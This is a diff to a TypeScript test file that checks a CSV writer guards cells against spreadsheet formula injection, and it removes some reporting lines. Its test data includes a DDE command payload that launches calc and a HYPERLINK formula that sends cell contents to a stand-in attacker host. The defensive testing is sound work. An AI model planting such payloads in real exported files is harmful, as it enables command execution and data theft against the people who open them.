@@ -4,7 +4,6 @@ import { buffer } from 'node:stream/consumers';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { guardCell, unguardCell, writeCsv } from './csv.ts';
-import { figure } from '#tests/helpers/figure.ts';
 
 const begin = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
 const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Click")', 'SUM(1,2);3', '"quoted"'];
@@ -98,10 +97,6 @@ describe('a file', () => {
     const csv = (await fileOf(rows)).slice(1);
     const back = read(csv);
     const visible = (cell: string) => (needsPython ? cell.replaceAll('\0', '\u0001') : cell);
-    const same = back
-      .slice(1)
-      .filter((row, at) => row.every((cell, part) => cell === visible(guardCell(rows[at]![part]!))));
-    figure(26, `read ${how}: ${same.length} of ${rows.length} rows come back as they went in`);
     expect(back[0]).toEqual(titles);
     expect(back.slice(1)).toEqual(rows.map((row) => row.map((cell) => visible(guardCell(cell)))));
     if (!needsPython) expect(back.slice(1).map((row) => row.map(unguardCell))).toEqual(rows);
@@ -110,7 +105,6 @@ describe('a file', () => {
   it('has no cell that a spreadsheet would run, whichever separator it uses', { tags: ['check-26'] }, async () => {
     const cells = possibleCells(await fileOf(rows));
     const formulas = cells.filter((cell) => /^[=+\-@\0＝＋－＠]/.test(cell));
-    figure(26, `${hostile.length} hostile cells, ${cells.length} cells by any separator: ${formulas.length} formulas`);
     expect(formulas).toEqual([]);
     // The same look finds them in a file without the guard.
     expect(possibleCells(hostile.join('\r\n')).some((cell) => cell.startsWith('='))).toBe(true);
